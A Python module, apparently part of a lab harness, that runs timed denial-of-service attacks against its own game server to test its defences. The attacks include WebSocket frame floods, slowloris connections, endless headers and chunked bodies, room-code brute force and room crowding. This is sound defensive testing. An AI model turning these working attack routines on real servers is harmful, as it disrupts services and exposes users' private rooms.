"""What one address can throw at a server: each attack runs by itself, for so many seconds.

An attack opens what it needs before it begins, comes back when it is thrown out, and counts what it did: an
attack that was not carried out proves nothing.
"""

import asyncio
import json
import time
from collections.abc import Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import count
from typing import Any, Final

from rumpus.lab.load.clients import Caller, RefusedCall, call, given_cookie, new_cookie, open_room

FINAL, MASKED = 0x80, 0x80
TEXT, CONTINUATION, PING, PONG = 0x1, 0x0, 0x9, 0xA
NO_MASK: Final = b"\0\0\0\0"

CHUNK: Final = 1_000
"""Frames written at once."""

SOCKETS: Final = 4
"""WebSockets that flood at the same time."""

CONNECTIONS: Final = 30
"""Connections that ask at the same time."""

MOB: Final = 80
"""People in a room of the attacker's."""

ADDRESSES: Final = 30
"""From so many addresses all connections of a server are taken."""

MOST_HELD: Final = 2_000
"""More connections than a besieged server has; after so many, new ones are opened more slowly."""

SETTLING: Final = 10.0
"""Seconds for which a server that should refuse something is waited for after the attack."""

LETTERS: Final = "BCDFGHJKLMNPQRSTVWXZ"


@dataclass(frozen=True)
class Target:
    """Whom to attack, from where and for how long."""

    server: tuple[str, int]
    enemy: str
    """An address of this machine that no honest player has."""
    room: str
    """An honest room whose code has become known."""
    seconds: float

    @property
    def host(self) -> str:
        return f"{self.server[0]}:{self.server[1]}"

    def stopwatch(self) -> Callable[[], bool]:
        """Tells whether there is still time."""
        ends = time.monotonic() + self.seconds
        return lambda: time.monotonic() < ends

    def other_enemy(self, number: int) -> str:
        """Another address of the same attacker's."""
        return f"{self.enemy.rpartition('.')[0]}.{1 + number}"


@dataclass
class Loot:
    """What an attacker did, and what became of it."""

    did: str
    """What is counted in `times`."""
    times: int = 0
    refused: int = 0
    """How often the server said no, or closed a connection."""
    gained: dict[str, int] = field(default_factory=dict)

    def __str__(self) -> str:
        gains = "".join(f", {name} {number:,}" for name, number in self.gained.items())
        return f"{self.did} {self.times:,}, refused {self.refused:,}{gains}"


# ---- Frames (C1)


async def flood(target: Target, did: str, first: bytes, frame: bytes) -> Loot:
    """Send the same frames on some sockets as fast as the server takes them; come back when thrown out."""
    loot, in_time = Loot(did, gained={"sockets": 0}), target.stopwatch()
    founder = new_cookie()
    room = await open_room(target.server, founder, {"game": "loonacy"}, target.enemy)

    async def pour(cookie: str) -> None:
        while in_time():
            try:
                caller = await call(target.server, f"/ws/{room}", cookie, ignore, target.enemy)
            except (OSError, RefusedCall):
                loot.refused += 1
                await asyncio.sleep(0.05)
                continue
            loot.gained["sockets"] += 1
            caller.write(first)
            while in_time() and not caller.lost.done():
                caller.write(frame * CHUNK)
                loot.times += CHUNK
                await caller.drained()
                await asyncio.sleep(0.001)  # other attacks may share this loop
            loot.refused += caller.lost.done()
            caller.hang_up()

    await all_at_once([pour(founder), *(pour(new_cookie()) for _ in range(SOCKETS - 1))], target.seconds)
    return loot


async def pongs(target: Target) -> Loot:
    """Pongs that answer no ping."""
    return await flood(target, "pongs", b"", bytes((FINAL | PONG, MASKED)) + NO_MASK)


async def pings(target: Target) -> Loot:
    """Pings without end."""
    return await flood(target, "pings", b"", bytes((FINAL | PING, MASKED)) + NO_MASK)


async def fragments(target: Target) -> Loot:
    """A message that never ends, in pieces without anything in them."""
    begin, piece = bytes((TEXT, MASKED)) + NO_MASK, bytes((CONTINUATION, MASKED)) + NO_MASK
    return await flood(target, "fragments", begin, piece)


# ---- Connections (C2, H6)

BEGINNINGS: Final = (
    b"",
    b"GET / HTTP/1.1\r\nHost: 127",
    b"POST /api/me HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 50\r\n\r\n{",
)
"""Nothing, half a header, half a body."""


async def silence(target: Target) -> Loot:
    """Connections from one address on which next to nothing is ever sent."""
    return await hold_connections(target, [target.enemy])


async def descriptors(target: Target) -> Loot:
    """The same from many addresses, until there is no descriptor left."""
    return await hold_connections(target, [target.other_enemy(number) for number in range(ADDRESSES)])


async def hold_connections(target: Target, enemies: list[str]) -> Loot:
    loot, in_time = Loot("connections"), target.stopwatch()
    held: set[asyncio.Task[None]] = set()

    async def hold(number: int) -> None:
        reader, writer = await asyncio.open_connection(
            *target.server, local_addr=(enemies[number % len(enemies)], 0)
        )
        try:
            writer.write(BEGINNINGS[number % len(BEGINNINGS)])
            await reader.read()
            loot.refused += 1
        finally:
            writer.transport.abort()

    async def hold_or_be_refused(number: int) -> None:
        try:
            await hold(number)
        except OSError:
            loot.refused += 1

    for number in count():
        if not in_time():
            break
        task = asyncio.create_task(hold_or_be_refused(number))
        held.add(task)
        task.add_done_callback(held.discard)
        loot.times += 1
        await asyncio.sleep(0.001 if number < MOST_HELD else 0.01)
    # What a busy server or our own busy loop has not closed yet is not a gain.
    if held:
        await asyncio.wait(held, timeout=SETTLING, return_when=asyncio.FIRST_COMPLETED)
    await asyncio.sleep(0.2)
    loot.gained["still open"] = len(held)
    for task in list(held):
        task.cancel()
    await asyncio.gather(*held, return_exceptions=True)
    return loot


# ---- Requests (H3, H5)


async def ask_forever(
    target: Target, loot: Loot, request: Callable[[int], bytes], answered: Callable[[int], None]
) -> Loot:
    """Ask one thing after another on some kept-alive connections; `answered` gets every status."""
    in_time, numbers = target.stopwatch(), count()

    async def ask() -> None:
        while in_time():
            try:
                reader, writer = await asyncio.open_connection(*target.server, local_addr=(target.enemy, 0))
            except OSError:
                loot.refused += 1
                await asyncio.sleep(0.05)
                continue
            with suppress(OSError, ValueError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                while in_time():
                    writer.write(request(next(numbers)))
                    loot.times += 1
                    head = await reader.readuntil(b"\r\n\r\n")
                    status = int(head.split()[1])
                    loot.refused += status in (429, 503)
                    answered(status)
                    length = head.lower().partition(b"content-length:")[2].partition(b"\r\n")[0]
                    await reader.readexactly(int(length or b"0"))
                    if b"connection: close" in head.lower() or status == 101:
                        break
            writer.transport.abort()

    await all_at_once([ask() for _ in range(CONNECTIONS)], target.seconds)
    return loot


async def rooms(target: Target) -> Loot:
    """Open rooms, each as a new guest, each with a game of bots."""
    body = json.dumps({"game": "loonacy", "bots": 3, "start": True})
    request = (
        f"POST /api/rooms HTTP/1.1\r\nHost: {target.host}\r\nOrigin: http://{target.host}\r\n"
        f"Content-Length: {len(body)}\r\n\r\n{body}"
    ).encode()
    loot = Loot("rooms asked for", gained={"opened": 0})

    def answered(status: int) -> None:
        loot.gained["opened"] += status == 200

    return await ask_forever(target, loot, lambda _: request, answered)


async def codes(target: Target) -> Loot:
    """Try one room code after another, at every door that has one."""
    doors = ("/api/rooms/{}", "/api/rooms/{}/qr.svg", "/ws/{}")
    headers = (
        f" HTTP/1.1\r\nHost: {target.host}\r\nOrigin: http://{target.host}\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    )
    upgrade = "Upgrade: websocket\r\nConnection: Upgrade\r\n"

    def request(number: int) -> bytes:
        code = "".join(LETTERS[number * 7_919 // 20**place % 20] for place in range(4))
        door = doors[number % len(doors)]
        extra = upgrade if door.startswith("/ws") else ""
        return f"GET {door.format(code)}{headers}{extra}\r\n".encode()

    loot = Loot("codes tried", gained={"found": 0})

    def answered(status: int) -> None:
        loot.gained["found"] += status in (101, 200)

    return await ask_forever(target, loot, request, answered)


async def requests(target: Target) -> Loot:
    """Ask for anything that costs the server something: names to store, pages, what is not there."""
    name = json.dumps({"name": "Mallory"})
    cookie = f"Host: {target.host}\r\nOrigin: http://{target.host}\r\nCookie: {new_cookie()}\r\n"
    wanted = (
        f"POST /api/me HTTP/1.1\r\n{cookie}Content-Length: {len(name)}\r\n\r\n{name}",
        f"GET /api/games HTTP/1.1\r\n{cookie}\r\n",
        f"GET / HTTP/1.1\r\n{cookie}\r\n",
        f"GET /assets/nothing.js HTTP/1.1\r\n{cookie}\r\n",
    )
    asked = [each.encode() for each in wanted]
    return await ask_forever(
        target, Loot("requests"), lambda number: asked[number % len(asked)], lambda status: None
    )


# ---- Bytes of requests


async def pour_requests(target: Target, did: str, first: bytes, more: bytes) -> Loot:
    """Begin something and send more of it for ever; come back when thrown out. Counts kilobytes."""
    loot, in_time = Loot(did, gained={"connections": 0}), target.stopwatch()

    async def pour() -> None:
        while in_time():
            try:
                reader, writer = await asyncio.open_connection(*target.server, local_addr=(target.enemy, 0))
            except OSError:
                loot.refused += 1
                await asyncio.sleep(0.05)
                continue
            loot.gained["connections"] += 1
            listening = asyncio.ensure_future(listen(reader))
            with suppress(OSError):
                writer.write(first)
                while in_time() and not listening.done() and not writer.is_closing():
                    writer.write(more)
                    loot.times += len(more) // 1_000
                    await writer.drain()
                    await asyncio.sleep(0.001)  # other attacks may share this loop
            loot.refused += listening.done() or writer.is_closing()
            listening.cancel()
            writer.transport.abort()

    async def listen(reader: asyncio.StreamReader) -> None:
        """Take all answers, until there are no more."""
        with suppress(OSError):
            while await reader.read(65_536):
                pass

    await all_at_once([pour() for _ in range(SOCKETS)], target.seconds)
    return loot


async def pieces(target: Target) -> Loot:
    """A body without end, in pieces of a byte each."""
    first = (
        f"POST /api/me HTTP/1.1\r\nHost: {target.host}\r\nOrigin: http://{target.host}\r\n"
        "Transfer-Encoding: chunked\r\n\r\n"
    )
    return await pour_requests(target, "kilobytes", first.encode(), b"1\r\n \r\n" * CHUNK)


async def heads(target: Target) -> Loot:
    """A head without end."""
    return await pour_requests(target, "kilobytes", b"GET / HTTP/1.1\r\n", b"a: b\r\n" * CHUNK)


async def pipeline(target: Target) -> Loot:
    """One question after another, without waiting for the answers."""
    question = f"GET /api/games HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
    return await pour_requests(target, "kilobytes", b"", question * CHUNK)


# ---- Rooms (M3, M5)


async def visits(target: Target) -> Loot:
    """Enter a room as somebody new, and leave again, as often as possible."""
    loot, in_time = Loot("visits"), target.stopwatch()

    async def come_and_go() -> None:
        while in_time():
            try:
                caller = await call(target.server, f"/ws/{target.room}", new_cookie(), ignore, target.enemy)
            except (OSError, RefusedCall):
                loot.refused += 1
                await asyncio.sleep(0.01)
                continue
            loot.times += 1
            await asyncio.sleep(0)
            caller.hang_up()

    await all_at_once([come_and_go() for _ in range(SOCKETS)], target.seconds)
    return loot


async def gallery(target: Target) -> Loot:
    """Sit in somebody else's gallery with as many sockets as the room takes."""
    loot, in_time = Loot("sockets"), target.stopwatch()
    inside: list[Caller] = []

    async def crowd_in() -> None:
        while in_time():
            try:
                inside.append(
                    await call(target.server, f"/ws/{target.room}", new_cookie(), ignore, target.enemy)
                )
                loot.times += 1
            except (OSError, RefusedCall):
                loot.refused += 1
            await asyncio.sleep(0.01)

    await all_at_once([crowd_in() for _ in range(SOCKETS)], target.seconds)
    loot.gained["inside"] = sum(not caller.lost.done() for caller in inside)
    loot.refused += len(inside) - loot.gained["inside"]
    for caller in inside:
        caller.hang_up()
    return loot


NAGGING: Final = [
    json.dumps(message).encode()
    for message in (
        {"t": "again"},
        {"t": "name", "name": "Mallory"},
        {"t": "sit", "chair": 1},
        {"t": "stand"},
    )
]
"""What is allowed, and makes the server tell everybody in the room something, or somebody everything."""

BEGIN_AND_END: Final = [
    json.dumps(message).encode() for message in ({"t": "sit", "chair": 0}, {"t": "start"}, {"t": "stand"})
]

GAMES: Final = 15
"""Rooms in which games are begun and ended: fewer than one address may open."""

NAG_EVERY: Final = 0.1
"""Seconds between two messages of one socket, which is half of what it may send."""


async def mob(target: Target) -> Loot:
    """Fill a room of one's own, and let everybody in it say as much as they may."""
    loot, in_time = Loot("messages", gained={"sockets": 0}), target.stopwatch()
    room = await open_room(target.server, new_cookie(), {"game": "uno-attack"}, target.enemy)

    async def nag() -> None:
        while in_time():
            try:
                caller = await call(target.server, f"/ws/{room}", new_cookie(), ignore, target.enemy)
            except (OSError, RefusedCall):
                loot.refused += 1
                await asyncio.sleep(0.5)
                continue
            loot.gained["sockets"] += 1
            while in_time() and not caller.lost.done():
                caller.say(NAGGING[loot.times % len(NAGGING)])
                loot.times += 1
                await asyncio.sleep(NAG_EVERY)
            loot.refused += caller.lost.done()
            caller.hang_up()

    await all_at_once([nag() for _ in range(MOB)], target.seconds)
    return loot


async def games(target: Target) -> Loot:
    """Begin a game against a bot and get up, again and again, in as many rooms as one gets."""
    loot, in_time = Loot("games asked for", gained={"begun": 0}), target.stopwatch()

    def hear(text: bytes, at: float) -> None:
        loot.gained["begun"] += text.startswith(b'{"t":"table"')
        loot.refused += text.startswith(b'{"t":"refusal"')

    async def play() -> None:
        cookie = await given_cookie(target.server, target.enemy)
        code = await open_room(target.server, cookie, {"game": "loonacy", "bots": 1}, target.enemy)
        caller = await call(target.server, f"/ws/{code}", cookie, hear, target.enemy)
        while in_time() and not caller.lost.done():
            for message in BEGIN_AND_END:
                caller.say(message)
                await asyncio.sleep(NAG_EVERY)
            loot.times += 1
        caller.hang_up()

    await all_at_once([play() for _ in range(GAMES)], target.seconds)
    return loot


# ---- All of them


def ignore(text: bytes, at: float) -> None:
    """An attacker does not listen."""


async def all_at_once(tasks: list[Coroutine[Any, Any, None]], seconds: float) -> None:
    """Run all of them; a server that no longer answers holds nobody up for ever."""
    running = [asyncio.ensure_future(task) for task in tasks]
    done, stuck = await asyncio.wait(running, timeout=seconds + 5.0)
    for task in stuck:
        task.cancel()
    await asyncio.gather(*done)
    await asyncio.gather(*stuck, return_exceptions=True)


@dataclass(frozen=True)
class Attack:
    """One way to attack."""

    run: Callable[[Target], Coroutine[Any, Any, Loot]]
    least: float
    """How much of it in a second is worth being called an attack."""


ATTACKS: Final[dict[str, Attack]] = {
    "pongs": Attack(pongs, 1_000),
    "pings": Attack(pings, 1_000),
    "fragments": Attack(fragments, 1_000),
    "silence": Attack(silence, 20),
    "descriptors": Attack(descriptors, 20),
    "rooms": Attack(rooms, 20),
    "codes": Attack(codes, 20),
    "requests": Attack(requests, 20),
    "pieces": Attack(pieces, 100),
    "heads": Attack(heads, 100),
    "pipeline": Attack(pipeline, 100),
    "visits": Attack(visits, 5),
    "gallery": Attack(gallery, 5),
    "mob": Attack(mob, 20),
    "games": Attack(games, 5),
}
